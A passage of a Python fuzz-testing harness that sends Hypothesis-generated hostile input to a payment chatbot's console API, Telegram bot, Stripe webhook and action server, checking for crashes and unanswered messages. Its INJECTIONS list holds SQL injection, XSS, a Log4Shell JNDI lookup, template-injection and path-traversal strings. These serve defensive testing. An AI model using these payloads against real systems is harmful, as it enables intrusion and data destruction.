"""Hostile input at every edge (issue 12, item 6): Hypothesis generates it, the real edge answers it.

`python -m bench.fuzz` (quick: a few hundred inputs, what `make test` runs through
tests/bench/test_fuzz.py) or `python -m bench.fuzz --long` (25,000 per edge, 100,000 in all, what
`make bench` runs) writes bench/results/fuzz.md and fuzz.json: per edge, how many inputs, what
they were answered with, and every finding (a crash, a 5xx, a message left unanswered).

The edges, each the real code in front of a stand-in only where the edge ends:

- `console`: `POST /api/chat` of the real FastAPI app on a migrated SQLite database, as a tester
  with HTTP Basic; behind it the real `RasaClient` talks to a stand-in paychat channel that applies
  the real channel's rules (1..4096 characters, not blank; card numbers refused).
- `telegram`: the real python-telegram-bot application with the bot's handlers, long polling the
  fake Bot API (testing/fake_telegram.py) over HTTP, users created in the same SQLite database
  and turns recorded there; the same stand-in channel behind the real `RasaClient`.
- `stripe_webhook`: `POST /stripe/webhook` on the console: bodies unsigned, wrongly signed and
  correctly signed (Stripe's scheme, the configured secret).
- `action_server`: `POST /webhook` on the real action server process (`python -m actions.server`)
  with the right secret, its demo database and the Stripe sandbox: action calls of every shape.

Texts: random unicode (lone surrogates too), control characters, up to 100 KB, SQL/HTML/Markdown/
template injection, Rasa intent payloads; JSON of any shape; raw bytes.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import hmac
import json
import logging
import os
import secrets
import sys
import time
import traceback
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
from hypothesis import HealthCheck, Phase, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from bench import environment
from testing.runclock import RunClock

RESULTS = Path(__file__).resolve().parent / "results"
QUICK_PER_EDGE = 100
LONG_PER_EDGE = 25_000
EDGES = ("console", "telegram", "stripe_webhook", "action_server")
MAX_MESSAGE_CHARS = 4096  # the paychat channel's limit (rasa_project/channels/paychat_channel.py)
TESTER = ("fuzz_tester", "fuzz-tester-password-1")
WEBHOOK_SECRET = "whsec_fuzz_" + "0" * 24
DOMAIN_FILE = Path(__file__).resolve().parent.parent / "rasa_project" / "domain.yml"

# --- what hostile input looks like -----------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE users; --",
    "1 OR 1=1",
    '" OR ""="',
    "Robert'); DELETE FROM payments;--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><b>bold</b>",
    "*bold* _italic_ `code` [link](http://example.com) ~strike~ ||spoiler||",
    "```\ncode block\n```",
    "{{7*7}} {% for x in range(9) %}x{% endfor %}",
    "${jndi:ldap://example.com/a}",
    "%s%s%s%n %x %(password)s",
    "{v_amount} {amount} {{amount}}",
    "/affirm",
    "/deny",
    '/inform{"biller": "Stadtwerke", "amount": "-1"}',
    '/inform{"amount": 1e309}',
    "/start ../../etc/passwd",
    "/restart",
    "pay 1e309 euros to Stadtwerke",
    "pay -84.20 to electricity",
    "pay 99999999999999999999999 on my phone bill",
    "4242 4242 4242 4242",
    "my card is 4000-0000-0000-0341 exp 12/29",
    "\u202eevil\u202c",
    "\ufeffhi",
    "\u0000",
    "NaN",
    "null",
    "A" * 5000,
]
SESSION_LIKE = st.from_regex(r"[A-Za-z0-9_]{1,64}", fullmatch=True)


def hostile_text(max_size: int = 300) -> st.SearchStrategy[str]:
    """Text a person, a script or an attacker might send."""
    plain = st.text(max_size=max_size)
    every_code_point = st.text(st.characters(codec=None, exclude_categories=()), max_size=max_size)
    controls = st.text(
        st.characters(max_codepoint=0x1F) | st.sampled_from("\x7f\u200b\u2028\u2029\ufeff\u202e"),
        min_size=1,
        max_size=40,
    )
    injection = st.sampled_from(INJECTIONS)
    mixed = st.lists(st.one_of(injection, plain, controls), min_size=1, max_size=4).map("".join)
    huge = st.tuples(st.text(min_size=1, max_size=8), st.integers(1, 100_000)).map(
        lambda pair: (pair[0] * pair[1])[:100_000]
    )
    blank = st.text(st.sampled_from(" \t\n\r\u00a0\u3000"), min_size=1, max_size=20)
    return st.one_of(plain, every_code_point, controls, injection, mixed, huge, blank)


def json_values(max_leaves: int = 8) -> st.SearchStrategy[Any]:
    """Any JSON value."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(60),
    )
    return st.recursive(
        leaves,
        lambda children: (
            st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
        ),
        max_leaves=max_leaves,
    )


def raw_bodies() -> st.SearchStrategy[bytes]:
    """Bodies that are not (or not quite) JSON."""
    return st.one_of(
        st.binary(max_size=300),
        json_values().map(lambda v: json.dumps(v).encode()[:-1]),  # truncated JSON
        st.sampled_from([b"", b"{", b"[]", b"null", b'{"a":1}{"b":2}', b"\xff\xfe", b'{"text": "\\ud800"}']),
    )


# --- the stand-in paychat channel behind the real RasaClient ---------------------------------------


def channel_handler(request: httpx.Request) -> httpx.Response:
    """Answers like rasa_project/channels/paychat_channel.py: its checks, then a short turn."""
    body = json.loads(request.content)
    sender, text = body.get("sender"), body.get("message")
    if not isinstance(sender, str) or not sender or len(sender) > 128:
        return httpx.Response(400, json={"error": "sender must be a non-empty string"})
    if not isinstance(text, str) or not text.strip() or len(text) > MAX_MESSAGE_CHARS:
        return httpx.Response(400, json={"error": f"message must be 1..{MAX_MESSAGE_CHARS} characters"})
    buttons = [{"title": "Confirm", "payload": "/affirm"}, {"title": "Cancel", "payload": "/deny"}]
    reply = {"text": "Here is what I understood.", "buttons": buttons if len(text) % 2 else [], "custom": {}}
    return httpx.Response(200, json={"replies": [reply], "parse": {}, "slots": {}, "events": []})


def stand_in_rasa_client() -> Any:
    """The real RasaClient, its HTTP answered by `channel_handler`."""
    from rasa_client import RasaClient

    return RasaClient("http://rasa.fuzz", "fuzz-secret", 10, transport=httpx.MockTransport(channel_handler))


# --- one database for the in-process edges ---------------------------------------------------------


@dataclass
class Database:
    """A migrated SQLite file with a tester account and the test user Alex."""

    url: str
    alex_id: int


@contextmanager
def seeded_database(workdir: Path) -> Iterator[Database]:
    """Migrate a fresh SQLite database under `workdir` and add a tester and a test user."""
    from console.roles import Role
    from console.staff import create_staff_user
    from db.engine import make_engine, make_session_factory
    from db.migrate import upgrade
    from db.models import User

    url = f"sqlite:///{workdir / 'fuzz.db'}"
    upgrade(url)
    engine = make_engine(url)
    try:
        with make_session_factory(engine).begin() as session:
            create_staff_user(session, username=TESTER[0], password=TESTER[1], role=Role.TESTER)
            alex = User(name="Alex Demo", demo_key="alex", is_test=True, locale="en_IE", currency="EUR")
            session.add(alex)
            session.flush()
            alex_id = alex.id
    finally:
        engine.dispose()
    yield Database(url=url, alex_id=alex_id)


def app_settings(workdir: Path, database: Database) -> Any:
    """Settings of the in-process edges: the fuzz database, a webhook secret, no Stripe reachable."""
    from scripts import procs
    from settings import Settings

    return Settings(
        PAYCHAT_ENV="test",
        PAYCHAT_VAR_DIR=workdir,
        DATABASE_URL=database.url,
        CONSOLE_SECRET_KEY=secrets.token_urlsafe(32),
        STRIPE_WEBHOOK_SECRET=WEBHOOK_SECRET,
        # Nothing listens there: a webhook that asks Stripe about a PaymentIntent gets no answer.
        STRIPE_API_BASE=f"http://127.0.0.1:{procs.free_port()}",
        STRIPE_TIMEOUT_SECONDS=2,
        REDIS_URL="",
    )


# --- the edges -------------------------------------------------------------------------------------


class Finding(AssertionError):
    """The edge crashed, answered 5xx, or left a message unanswered."""


@dataclass
class ConsoleChat:
    """POST /api/chat with bodies of every shape."""

    client: Any
    name: str = "console"

    def strategy(self) -> st.SearchStrategy[Any]:
        """Chat bodies: well-formed with hostile fields, any JSON, raw bytes."""
        well_formed = st.fixed_dictionaries({"session": SESSION_LIKE, "text": hostile_text()})
        odd_fields = st.fixed_dictionaries(
            {"session": SESSION_LIKE | hostile_text(80), "text": hostile_text()},
            optional={"user_id": st.none() | st.integers(-(2**65), 2**65) | hostile_text(12)},
        )
        return st.one_of(well_formed, well_formed, odd_fields, json_values(), raw_bodies())

    def check(self, body: Any) -> str:
        """Send the body; anything but a clear 2xx/4xx answer is a finding."""
        # JSON is sent ASCII-escaped, as most clients send it: a lone surrogate ("\ud800") travels
        # as its escape and reaches the console, where httpx's UTF-8 body encoding raised here.
        content = body if isinstance(body, bytes) else json.dumps(body).encode()
        response = self.client.post(
            "/api/chat", content=content, headers={"content-type": "application/json"}, auth=TESTER
        )
        return expect_clear_answer(response, ok_key="replies")


@dataclass
class StripeWebhook:
    """POST /stripe/webhook: unsigned, wrongly signed and correctly signed bodies."""

    client: Any
    secret: str = WEBHOOK_SECRET
    name: str = "stripe_webhook"

    def strategy(self) -> st.SearchStrategy[tuple[str, bytes]]:
        """(how it is signed, body)."""
        intent = st.fixed_dictionaries(
            {
                "id": st.one_of(hostile_text(40), st.from_regex(r"pi_[A-Za-z0-9]{1,30}", fullmatch=True)),
                "object": st.sampled_from(["payment_intent", "charge", ""]) | hostile_text(10),
            },
            optional={"status": hostile_text(20), "metadata": json_values(4)},
        )
        event = st.fixed_dictionaries(
            {
                "id": st.from_regex(r"evt_[A-Za-z0-9]{1,30}", fullmatch=True) | hostile_text(30),
                "object": st.just("event"),
                "type": st.sampled_from(
                    ["payment_intent.succeeded", "payment_intent.payment_failed", "charge.refunded"]
                )
                | hostile_text(30),
                "data": st.fixed_dictionaries({"object": intent}) | json_values(4),
            }
        )
        bodies = st.one_of(
            event.map(lambda e: json.dumps(e).encode()),
            json_values().map(lambda v: json.dumps(v).encode()),
            raw_bodies(),
        )
        signing = st.sampled_from(["none", "garbage", "valid", "valid", "stale"])
        return st.tuples(signing, bodies)

    def check(self, signed_body: tuple[str, bytes]) -> str:
        """Post it; a valid signature gets 200 or a clear 400, anything else 400."""
        how, body = signed_body
        headers = {"content-type": "application/json"}
        if how != "none":
            stamp = int(time.time()) - (3600 if how == "stale" else 0)
            signature = hmac.new(
                self.secret.encode(), f"{stamp}.".encode() + body, hashlib.sha256
            ).hexdigest()
            headers["Stripe-Signature"] = f"t={stamp},v1={signature if how != 'garbage' else 'ab' * 32}"
        response = self.client.post("/stripe/webhook", content=body, headers=headers)
        if response.status_code not in (200, 400):
            raise Finding(f"webhook answered {response.status_code}: {response.text[:300]}")
        if how in ("none", "garbage", "stale") and response.status_code != 400:
            raise Finding(f"an unverified webhook was accepted ({how})")
        return f"{how}:{response.status_code}"


@dataclass
class ActionServer:
    """POST /webhook on the action server process: action calls of every shape."""

    url: str
    secret: str
    senders: list[str]
    http: httpx.Client = field(default_factory=lambda: httpx.Client(timeout=60))
    name: str = "action_server"

    def strategy(self) -> st.SearchStrategy[Any]:
        """Action calls: real actions with hostile trackers, unknown actions, any JSON."""
        from ruamel.yaml import YAML

        domain = dict(YAML(typ="safe").load(DOMAIN_FILE.read_text(encoding="utf-8")))
        actions = [a for a in domain.get("actions", []) if isinstance(a, str)]
        intents = [i if isinstance(i, str) else next(iter(i)) for i in domain.get("intents", [])]
        slot_names = list(domain.get("slots", {}))
        forms = list(domain.get("forms", {}) or {})
        slot_value = st.one_of(
            st.none(), hostile_text(80), st.integers(-(2**65), 2**65), st.booleans(), json_values(3)
        )
        entity = st.fixed_dictionaries(
            {
                "entity": st.sampled_from(["biller", "amount", "date"]) | st.text(max_size=8),
                "value": slot_value,
            }
        )
        latest = st.fixed_dictionaries(
            {
                "text": hostile_text(),
                "intent": st.fixed_dictionaries(
                    {"name": st.sampled_from(intents) | st.text(max_size=10), "confidence": st.floats(0, 1)}
                ),
                "entities": st.lists(entity, max_size=3),
            }
        )
        event = st.one_of(
            st.fixed_dictionaries(
                {"event": st.just("slot"), "name": st.sampled_from(slot_names), "value": slot_value}
            ),
            st.fixed_dictionaries({"event": st.just("user"), "text": hostile_text(60), "parse_data": latest}),
            st.fixed_dictionaries(
                {"event": st.just("active_loop"), "name": st.none() | st.sampled_from(forms)}
            ),
            st.fixed_dictionaries({"event": st.just("action"), "name": st.sampled_from(actions)}),
        )
        sender = st.sampled_from(self.senders) | hostile_text(40)
        tracker = st.fixed_dictionaries(
            {
                "sender_id": sender,
                "slots": st.dictionaries(
                    st.sampled_from(slot_names) | st.text(max_size=8), slot_value, max_size=6
                ),
                "latest_message": latest,
                "events": st.lists(event, max_size=6),
                "paused": st.booleans(),
                "followup_action": st.none() | st.text(max_size=10),
                "active_loop": st.just({})
                | st.fixed_dictionaries({"name": st.sampled_from(forms) | st.text(max_size=8)}),
                "latest_action_name": st.none() | st.sampled_from(actions),
            }
        )
        call = st.fixed_dictionaries(
            {
                "next_action": st.sampled_from(actions) | hostile_text(30),
                "sender_id": sender,
                "tracker": tracker,
                "domain": st.just(domain),
                "version": st.just("3.6.21"),
            }
        )
        broken = st.fixed_dictionaries(
            {
                "next_action": json_values(2),
                "sender_id": json_values(2),
                "tracker": json_values(4),
                "domain": json_values(3),
            }
        )
        return st.one_of(call, call, call, broken, json_values(), raw_bodies())

    def check(self, body: Any) -> str:
        """Post it; a 5xx or a dropped connection is a finding."""
        headers = {"Authorization": f"Bearer {self.secret}", "content-type": "application/json"}
        content = body if isinstance(body, bytes) else json.dumps(body).encode()
        response = self.http.post(self.url, content=content, headers=headers)
        return expect_clear_answer(response, ok_key="events")


def expect_clear_answer(response: httpx.Response, *, ok_key: str) -> str:
    """A 2xx with `ok_key` in its JSON, or a 4xx that says what was wrong; else a Finding."""
    status = response.status_code
    if status >= 500:
        raise Finding(f"answered {status}: {response.text[:300]}")
    try:
        answer = response.json()
    except ValueError:
        raise Finding(f"answered {status} with a body that is not JSON: {response.text[:200]!r}") from None
    if 200 <= status < 300 and (not isinstance(answer, dict) or ok_key not in answer):
        raise Finding(f"answered {status} without {ok_key}: {str(answer)[:200]}")
    reason = isinstance(answer, dict) and (
        answer.get("detail") or answer.get("error") or answer.get("message")
    )
    if status >= 400 and not reason:
        raise Finding(f"answered {status} without saying why: {str(answer)[:200]}")
    return str(status)


# --- the Telegram edge ---------------------------------------------------------------------------


class TelegramEdge:
    """Updates of every shape through the fake Bot API to the real bot, one at a time."""

    name = "telegram"
    USERS = (710001, 710002, 710003)
    # How long a queued update may wait for the bot's getUpdates: it long-polls (1 s), and PTB's
    # polling loop sleeps up to 30 s only after a getUpdates failed with a TelegramError (a batch it
    # cannot parse is dropped and the next poll follows at once: telegram/ext/_updater.py).
    FETCH_SECONDS = 45.0
    # How long the bot may take over an update it has fetched (handlers and the turn's bookkeeping).
    SETTLE_SECONDS = 45.0
    # Both count the time this process could run (testing/runclock.py): on a shared machine, under
    # `nice`, it can wait minutes for a CPU, and that is not the bot's doing. Past this many wall
    # seconds a wait is a finding however loaded the machine.
    WALL_LIMIT_SECONDS = 600.0

    def __init__(self, settings: Any) -> None:
        self._settings = settings
        self._stack = ExitStack()
        self.errors: list[tuple[int | None, str]] = []

    def __enter__(self) -> TelegramEdge:
        from bot.app import build_application
        from bot.services import BotServices
        from db.engine import make_engine, make_session_factory
        from payments.service import build_service
        from testing.fake_telegram import FakeTelegram, polling
        from testing.loop import BackgroundLoop

        self.loop = BackgroundLoop("fuzz-telegram")
        self._stack.callback(self.loop.close)
        self.fake = FakeTelegram(token="123456:FUZZ-token")
        self.loop.run(self.fake.start())
        self._stack.callback(lambda: self.loop.run(self.fake.stop()))
        settings = self._settings.model_copy(
            update={"telegram_bot_token": self.fake.token, "telegram_api_base": self.fake.base_url}
        )
        engine = make_engine(settings.effective_database_url)
        self._stack.callback(engine.dispose)
        services = BotServices(
            assistant=stand_in_rasa_client(),
            users=build_service(settings, engine=engine),
            session_factory=make_session_factory(engine),
        )
        application = self.application = build_application(settings, services)
        processor = application.update_processor
        # The update_ids whose handling (handlers, error handler, the turn's bookkeeping) is over,
        # and the checks waiting for one.
        self.handled: set[int] = set()
        self._waiting: dict[int, asyncio.Future[None]] = {}
        original = processor.do_process_update

        async def counted(update: object, coroutine: Any) -> None:
            try:
                await original(update, coroutine)
            finally:
                update_id = getattr(update, "update_id", None)
                if isinstance(update_id, int):
                    self.handled.add(update_id)
                    waiter = self._waiting.pop(update_id, None)
                    if waiter is not None and not waiter.done():
                        waiter.set_result(None)

        processor.do_process_update = counted  # type: ignore[method-assign]
        application.add_error_handler(self._on_error)
        running = polling(application)
        self.loop.run(running.__aenter__(), timeout=60)
        self._stack.callback(lambda: self.loop.run(running.__aexit__(None, None, None), timeout=60))
        return self

    def __exit__(self, *exc: object) -> None:
        self._stack.close()

    async def _on_error(self, update: object, context: Any) -> None:
        error = context.error
        trace = "".join(traceback.format_exception(error))[-1500:] if error else "error"
        self.errors.append((getattr(update, "update_id", None), trace))

    def strategy(self) -> st.SearchStrategy[dict[str, Any]]:
        """Private messages (text, commands, entities, captions), callbacks, edits, group posts, junk."""
        user_id = st.sampled_from(self.USERS) | st.integers(1, 2**52)
        person = st.fixed_dictionaries(
            {"id": user_id, "is_bot": st.booleans(), "first_name": hostile_text(80)},
            optional={
                "last_name": hostile_text(40),
                "username": st.text(max_size=32),
                "language_code": hostile_text(10),
            },
        )
        chat_type = st.sampled_from(["private", "private", "private", "group", "supergroup", "channel"])
        text = hostile_text()
        command = st.tuples(
            st.sampled_from(["/start", "/help", "/bills", "/history", "/cancel", "/pay", "/"]), text
        ).map(lambda pair: f"{pair[0]} {pair[1]}")
        entity = st.fixed_dictionaries(
            {
                "type": st.sampled_from(["bot_command", "mention", "bold", "text_link", "url"]),
                "offset": st.integers(-5, 5000),
                "length": st.integers(-5, 5000),
            },
            optional={"url": st.just("http://example.com")},
        )
        message = st.fixed_dictionaries(
            {
                "message_id": st.integers(1, 2**31),
                "date": st.integers(0, 2**32),
                "chat": st.fixed_dictionaries({"id": user_id, "type": chat_type}),
                "from": person,
            },
            optional={
                "text": text | command,
                "entities": st.lists(entity, max_size=3),
                "caption": text,
                "sticker": st.just(
                    {
                        "file_id": "s",
                        "file_unique_id": "u",
                        "width": 1,
                        "height": 1,
                        "is_animated": False,
                        "is_video": False,
                        "type": "regular",
                    }
                ),
                "reply_to_message": st.just(
                    {"message_id": 1, "date": 0, "chat": {"id": 1, "type": "private"}}
                ),
            },
        )
        callback = st.fixed_dictionaries(
            {"id": st.text(min_size=1, max_size=20), "from": person, "chat_instance": st.text(max_size=10)},
            optional={"data": hostile_text(64) | st.text(max_size=64), "message": message},
        )
        kinds = st.sampled_from(
            ["message", "message", "message", "edited_message", "channel_post", "callback_query"]
        )
        update = st.tuples(kinds, message, callback).map(
            lambda t: {t[0]: t[2] if t[0] == "callback_query" else t[1]}
        )
        junk = st.dictionaries(
            st.sampled_from(["message", "callback_query", "edited_message", "poll"]),
            json_values(4),
            max_size=2,
        )
        return st.one_of(update, update, update, junk)

    def check(self, fields: dict[str, Any]) -> str:
        """Deliver one update and wait until the bot has handled it; then check it answered."""
        # Each wait inside is bounded and raises a Finding; this bound only guards against a hang.
        bound = 5 * self.WALL_LIMIT_SECONDS + 10
        return self.loop.run(self._check(fields), timeout=bound)

    async def _check(self, fields: dict[str, Any]) -> str:
        from telegram import Update

        update = {"update_id": self.fake.next_update_id(), **fields}
        errors_before, sent_before = len(self.errors), len(self.fake.calls)
        try:
            parsed = Update.de_json(json.loads(json.dumps(update)), None)
        except Exception:
            parsed = None
        await self.fake.push_update(update)
        await self._fetched(update)
        if parsed is None:
            # Beyond the Bot API's own schema (python-telegram-bot drops the whole batch): the bot
            # must survive it and answer the next message.
            return await self._still_answers(update, "refused by the Bot API parser")
        # Wait for this very update: counting finished updates let one still finishing (the
        # bookkeeping after a reply, slow on a loaded machine) pass for it, and its answer was
        # then looked for before it was sent.
        if waited := await self._handled(update["update_id"]):
            raise Finding(f"the bot fetched the update and never finished it ({waited})")
        await asyncio.sleep(0)  # an error handler scheduled as a task runs now
        raised = [
            trace for update_id, trace in self.errors[errors_before:] if update_id == update["update_id"]
        ]
        if raised:
            raise Finding(f"a handler raised:\n{raised[0]}")
        answered = self.fake.calls[sent_before:]
        private = parsed.effective_chat is not None and parsed.effective_chat.type == "private"
        message = parsed.message
        if (
            private
            and message is not None
            and message.from_user is not None
            and (message.text or message.caption)
        ):
            if not any(c.method == "sendMessage" for c in answered):
                raise Finding("a private message got no answer")
            return "message:answered"
        if parsed.callback_query is not None and parsed.callback_query.message is not None and private:
            if not any(c.method == "answerCallbackQuery" for c in answered):
                raise Finding("a button tap was not answered")
            return "callback:answered"
        return f"{next(iter(fields), 'empty')}:handled"

    async def _fetched(self, update: dict[str, Any]) -> None:
        """Wait until a getUpdates has handed the queued `update` to the bot."""
        update_id = update["update_id"]
        if waited := await self._within(
            lambda t: self.fake.wait_polled(lambda: update_id in self.fake.served_by, t), self.FETCH_SECONDS
        ):
            raise Finding(f"the bot stopped fetching updates ({waited})")

    async def _handled(self, update_id: int) -> str | None:
        """None once the bot has finished with `update_id`; after SETTLE_SECONDS, how long it waited."""
        if update_id in self.handled:
            return None
        waiter = self._waiting.setdefault(update_id, asyncio.get_running_loop().create_future())

        async def finished(seconds: float) -> bool:
            with suppress(TimeoutError):
                await asyncio.wait_for(asyncio.shield(waiter), seconds)
            return update_id in self.handled

        try:
            return await self._within(finished, self.SETTLE_SECONDS)
        finally:
            self._waiting.pop(update_id, None)

    async def _within(self, wait: Callable[[float], Awaitable[bool]], seconds: float) -> str | None:
        """None once `wait(timeout)` is true within `seconds` of run time (RunClock); else how long
        it waited, and how much of that for a CPU (for the finding)."""
        clock = RunClock()
        left = seconds
        while not await wait(left):
            left = seconds - clock.elapsed()
            if left <= 0 or clock.wall() >= self.WALL_LIMIT_SECONDS:
                return (
                    f"waited {clock.wall():.0f} s, {clock.starved():.0f} s of them for a CPU; "
                    f"allowed {seconds:.0f} s of run time"
                )
            left = max(left, 0.1)
        return None

    async def _still_answers(self, refused: dict[str, Any], label: str) -> str:
        # PTB drops a batch it cannot parse and polls again at once; the bot survived it when it
        # asks for more. Only then the hello: queued earlier, it could share the refused batch and
        # be dropped with it, the fake server's doing, not the bot's (PTB backs off only after a
        # TelegramError, so a long wait here is a finding of its own).
        fetched_by = self.fake.served_by[refused["update_id"]]
        if waited := await self._within(
            lambda t: self.fake.wait_polled(lambda: self.fake.polls > fetched_by, t), self.FETCH_SECONDS
        ):
            raise Finding(f"after an update the Bot API parser refused, the bot stopped fetching ({waited})")
        user = self.USERS[0]
        sent_before = len(self.fake.calls)
        hello = await self.fake.send_text(user, "hello")
        await self._fetched(hello)
        # Finished, so that what it still does after its reply is not taken for the next input's.
        if waited := await self._handled(hello["update_id"]):
            raise Finding(
                "after an update the Bot API parser refused, the bot fetched a message and never "
                f"finished it ({waited})"
            )
        if not any(
            c.method == "sendMessage" and c.params.get("chat_id") == user
            for c in self.fake.calls[sent_before:]
        ):
            raise Finding("after an update the Bot API parser refused, the bot stopped answering")
        return label


# --- running the edges -----------------------------------------------------------------------------


@dataclass
class EdgeResult:
    """What one edge was sent and how it answered."""

    edge: str
    inputs: int = 0
    outcomes: Counter[str] = field(default_factory=Counter)
    findings: list[str] = field(default_factory=list)
    seconds: float = 0.0


def fuzz_edge(edge: Any, examples: int, progress: Callable[[str], None] = print) -> EdgeResult:
    """Run `examples` generated inputs through `edge` (Hypothesis; a finding is shrunk and kept)."""
    result = EdgeResult(edge=edge.name)
    started = time.monotonic()
    failed: list[str] = []  # every input that failed, with why (Hypothesis reports only one)

    @hypothesis_settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=False,
        suppress_health_check=list(HealthCheck),
        phases=[Phase.generate, Phase.shrink],
        report_multiple_bugs=False,
    )
    @given(edge.strategy())
    def property_holds(value: Any) -> None:
        result.inputs += 1
        try:
            outcome = edge.check(value)
        except Exception as error:
            failed.append(f"input {repr(value)[:300]}: {type(error).__name__}: {str(error)[:300]}")
            raise
        result.outcomes[outcome] += 1
        if result.inputs % 1000 == 0:
            progress(f"  {edge.name}: {result.inputs} inputs, {dict(result.outcomes.most_common(4))}")

    try:
        property_holds()
    except Exception as error:  # a finding: Hypothesis re-raises it with the shrunk example
        notes = "\n".join(getattr(error, "__notes__", []))
        # A failure that did not come back when replayed (timing) is reported as flaky with
        # neither input nor reason: the inputs that failed say both.
        distinct = list(dict.fromkeys(failed))
        inputs = "\n".join(distinct[:5]) + (f"\n... {len(distinct) - 5} more" if len(distinct) > 5 else "")
        result.findings.append(
            f"{type(error).__name__}: {str(error)[:1500]}\n{notes[:1500]}\n"
            f"failing inputs (first found first, then shrunk):\n{inputs}"
        )
    result.seconds = round(time.monotonic() - started, 1)
    return result


@contextmanager
def running_edges(workdir: Path, names: tuple[str, ...] = EDGES) -> Iterator[list[Any]]:
    """Start what the chosen edges need under `workdir`; yield them; stop it all."""
    from fastapi.testclient import TestClient

    from console.app import create_app
    from console.services import ConsoleServices
    from db.engine import make_engine, make_session_factory

    with ExitStack() as stack:
        database = stack.enter_context(seeded_database(workdir))
        settings = app_settings(workdir, database)
        edges: list[Any] = []
        if {"console", "stripe_webhook"} & set(names):
            engine = make_engine(database.url)
            stack.callback(engine.dispose)
            services = ConsoleServices(
                session_factory=make_session_factory(engine), assistant=stand_in_rasa_client()
            )
            client = stack.enter_context(
                TestClient(create_app(settings, services), raise_server_exceptions=False)
            )
            if "console" in names:
                edges.append(ConsoleChat(client))
            if "stripe_webhook" in names:
                edges.append(StripeWebhook(client))
        if "telegram" in names:
            edges.append(stack.enter_context(TelegramEdge(settings)))
        if "action_server" in names:
            edges.append(stack.enter_context(action_server_edge(workdir / "action-server")))
        yield [e for name in names for e in edges if e.name == name]


@contextmanager
def action_server_edge(workdir: Path) -> Iterator[ActionServer]:
    """The action server process on a demo database with the Stripe sandbox, as `make run` starts them."""
    from scripts import procs

    workdir.mkdir(parents=True, exist_ok=True)
    sandbox_port, action_port = procs.free_port(), procs.free_port()
    secret = secrets.token_urlsafe(24)
    database_url = f"sqlite:///{workdir / 'paychat.db'}"
    env = procs.base_env(
        {
            "PAYCHAT_ENV": "test",
            "PAYCHAT_VAR_DIR": str(workdir),
            "DATABASE_URL": database_url,
            "STRIPE_API_KEY": "",
            "STRIPE_SANDBOX_PORT": str(sandbox_port),
            "ACTION_SERVER_PORT": str(action_port),
            "ACTION_SERVER_SECRET": secret,
            "PAYCHAT_DEMO_MODE": "true",
        }
    )
    with procs.supervised(workdir / "log", env) as supervisor:
        supervisor.start(procs.sandbox_spec(sandbox_port))
        procs.run_checked([str(procs.APP_PYTHON), "-m", "payments.demo"], env=env)
        supervisor.start(procs.action_server_spec(action_port))
        senders = demo_senders(database_url)
        edge = ActionServer(url=f"http://127.0.0.1:{action_port}/webhook", secret=secret, senders=senders)
        try:
            yield edge
        finally:
            edge.http.close()
            if supervisor.running and supervisor.running[-1].popen.poll() is not None:
                print(supervisor.running[-1].log_tail(), file=sys.stderr)


def demo_senders(database_url: str) -> list[str]:
    """Sender ids of the demo database's test users (console conversations)."""
    from sqlalchemy import select

    from db.engine import make_engine
    from db.models import User

    engine = make_engine(database_url)
    try:
        with engine.connect() as connection:
            ids = connection.execute(select(User.id).where(User.is_test.is_(True))).scalars().all()
    finally:
        engine.dispose()
    return [f"console-{user_id}-fuzz" for user_id in ids] or ["console-1-fuzz"]


@contextmanager
def quieted(name: str, level: int) -> Iterator[None]:
    """Logger `name` at `level` inside the block, back to the level it had afterwards."""
    logger = logging.getLogger(name)
    before = logger.level
    logger.setLevel(level)
    try:
        yield
    finally:
        logger.setLevel(before)


# python-telegram-bot's two CRITICAL records for a getUpdates batch it cannot parse. The fuzzer
# sends such batches on purpose and checks that the bot survives them; each record carried the
# whole batch (up to 100 KB of text) and a traceback: megabytes of log per thousand inputs.
REFUSED_BATCH_RECORDS = {
    "telegram.ext.ExtBot": "Error while parsing updates!",
    "telegram.ext.Updater": "Something went wrong processing the data received from Telegram.",
}


class _Dropped(logging.Filter):
    """Drops the records whose message starts with `prefix`."""

    def __init__(self, prefix: str) -> None:
        super().__init__()
        self.prefix = prefix

    def filter(self, record: logging.LogRecord) -> bool:
        return not str(record.msg).startswith(self.prefix)


@contextmanager
def refused_batches_unlogged() -> Iterator[None]:
    """Inside the block, PTB logs nothing for a batch it cannot parse (REFUSED_BATCH_RECORDS)."""
    filters = [(logging.getLogger(name), _Dropped(prefix)) for name, prefix in REFUSED_BATCH_RECORDS.items()]
    for logger, dropped in filters:
        logger.addFilter(dropped)
    try:
        yield
    finally:
        for logger, dropped in filters:
            logger.removeFilter(dropped)


def run(
    *,
    long: bool,
    names: tuple[str, ...] = EDGES,
    workdir: Path,
    out: Path | None = RESULTS,
    per_edge: int | None = None,
) -> dict[str, Any]:
    """Fuzz every chosen edge; write fuzz.md/json into `out` (None: nowhere); return the report."""
    per_edge = per_edge or (LONG_PER_EDGE if long else QUICK_PER_EDGE)
    flags = ["--long"] if long else [f"--per-edge={per_edge}"]
    if names != EDGES:
        flags.append(f"--edges={','.join(names)}")
    if out not in (None, RESULTS):
        flags.append(f"--out={out}")
    env = environment.describe(["fuzz.py", *flags])
    if os.nice(0):  # a run that yielded the cores to others (`nice -n 19 python -m bench.fuzz`)
        env["command"] = f"nice -n {os.nice(0)} {env['command']}"
    results = []
    # The refused batches are expected; quieted for this run only (a level left behind silenced
    # python-telegram-bot's DEBUG lines for every later test in the same pytest process).
    with (
        quieted("telegram", logging.CRITICAL),
        refused_batches_unlogged(),
        running_edges(workdir, names) as edges,
    ):
        for edge in edges:
            print(f"fuzzing {edge.name}: {per_edge} inputs", flush=True)
            results.append(fuzz_edge(edge, per_edge))
            print(
                f"  {edge.name}: {results[-1].inputs} inputs, {len(results[-1].findings)} findings",
                flush=True,
            )
    report = {
        "environment": environment.finish(env),
        "mode": "long" if long else f"{per_edge} per edge",
        "edges": [
            {
                "edge": r.edge,
                "inputs": r.inputs,
                "outcomes": dict(r.outcomes.most_common()),
